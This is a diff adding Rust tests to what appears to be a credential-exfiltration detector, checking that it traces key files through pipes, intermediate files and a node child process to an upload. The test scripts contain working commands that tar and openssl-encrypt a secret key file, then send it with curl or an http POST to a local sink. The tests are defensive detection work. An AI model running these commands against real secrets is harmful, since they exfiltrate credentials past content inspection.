@@ -1,6 +1,6 @@
 //! What is passed on through pipes: seen where the secret's own bytes leave, lineage with the way where they do not.
 
-use super::{count, goes_to, sent};
+use super::{WRITTEN, count, goes_to, sent};
 use crate::{
     agent::Agent,
     command::{Done, act, sh},
@@ -105,6 +105,100 @@ pub fn seen_at_the_end_of_a_pipeline() {
 
 fn step(how: &str, program: &str) -> (String, String) {
     (how.to_owned(), program.to_owned())
+}
+
+/// Packed into a file by one program and sent by another: lineage, with the file on the way. A log that was there before, and a
+/// file that nobody who holds anything wrote: nothing.
+pub fn handed_on_in_a_file() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let other = scratch.join("other");
+    let scripts = [
+        "tar c -C \"$(dirname \"$1\")\" . | $ENC -out $3/1; curl -s -T $3/1 \"$2\"; :",
+        "$ENC -in \"$1\" -out $3/2; sleep 2; curl -s --data-binary @$3/2 \"$2\"; :",
+        "$ENC -in \"$1\" -out $3/3.enc; mv $3/3.enc $3/3; curl -s -T $3/3 \"$2\"; :",
+        "$ENC -in \"$1\" -out $3/4; $ENC -in $3/4 -out $3/4.enc; curl -s -T $3/4.enc \"$2\"; :",
+    ];
+    for (n, script) in scripts.into_iter().enumerate() {
+        let (_, file) = key(&scratch, &format!("home/key{n}.json"));
+        let dir = scratch.make(&format!("handed{n}"));
+        let done = sh(script)
+            .arg(&file)
+            .arg(format!("http://127.0.0.1:{}/in", sink.port))
+            .arg(&dir)
+            .env("ENC", "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x")
+            .run()
+            .ok();
+        let event = agent.expect(script, done.pid, |e| {
+            e.is("credential_sent") && e.in_tree(done.pid) && e.executable().ends_with("/curl")
+        });
+        assert_eq!(event.grade(), "lineage", "{}", event.brief());
+        let evidence = event.evidence.as_ref().unwrap();
+        assert_eq!(evidence.lineage_basis, LineageBasis::Passed.number());
+        goes_to(&event, &["127.0.0.1"], sink.port);
+        let way = way(&event);
+        assert_eq!(way[0].0, "read", "{way:?}");
+        assert_eq!(way.last().unwrap(), &step("file", "curl"), "{way:?}");
+        assert_eq!(way.len(), [3, 2, 2, 3][n], "{way:?}");
+    }
+    // A log that is appended to, and a file that somebody else packed.
+    let (_, file) = key(&scratch, "home/key9.json");
+    fs::write(&other, "what was in the log before\n".repeat(9)).unwrap();
+    let log = sh("cat \"$1\" >/dev/null; wc -c <\"$1\" >>$3; curl -s -T $3 \"$2\"; :")
+        .arg(&file)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .arg(&other)
+        .run()
+        .ok();
+    let (poor, file) = (scratch.join("poor"), scratch.join("nothing"));
+    fs::write(&file, "nothing of interest to anybody\n".repeat(9)).unwrap();
+    let pack = sh("gzip -c \"$1\" >$3; curl -s -T $3 \"$2\"; :")
+        .arg(&file)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .arg(&poor)
+        .run()
+        .ok();
+    agent.settle();
+    for done in [log, pack] {
+        let sent = sent(&agent, done.pid);
+        assert!(sent.is_empty(), "{}", list(&sent));
+    }
+}
+
+/// What a child process of node says to it, over a pair of sockets, and node sends.
+pub fn said_to_a_parent() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let (_, file) = key(&scratch, "home/key.json");
+    let script = "const { execFile } = require('child_process');
+const http = require('http');
+const enc = ['enc', '-aes-256-cbc', '-pbkdf2', '-pass', 'pass:x', '-in', process.argv[1]];
+execFile('openssl', enc, { encoding: 'buffer' }, (error, out) => {
+    setTimeout(() => {
+        const request = http.request(process.argv[2], { method: 'POST' }, (r) => r.resume());
+        request.end(out);
+    }, 500);
+});";
+    let done = act("node")
+        .args(["-e", script])
+        .arg(&file)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .limit(30)
+        .run()
+        .ok();
+    let event = agent.expect("what node sent", done.pid, |e| {
+        e.is("credential_sent") && e.pid() == done.pid && !WRITTEN.contains(&e.channel())
+    });
+    assert_eq!(event.grade(), "lineage", "{}", event.brief());
+    goes_to(&event, &["127.0.0.1"], sink.port);
+    assert_eq!(
+        way(&event),
+        [step("read", "openssl"), step("socket", "node")]
+    );
 }
 
 /// What is packed and encrypted on its way is lineage, with all who had it in hand.
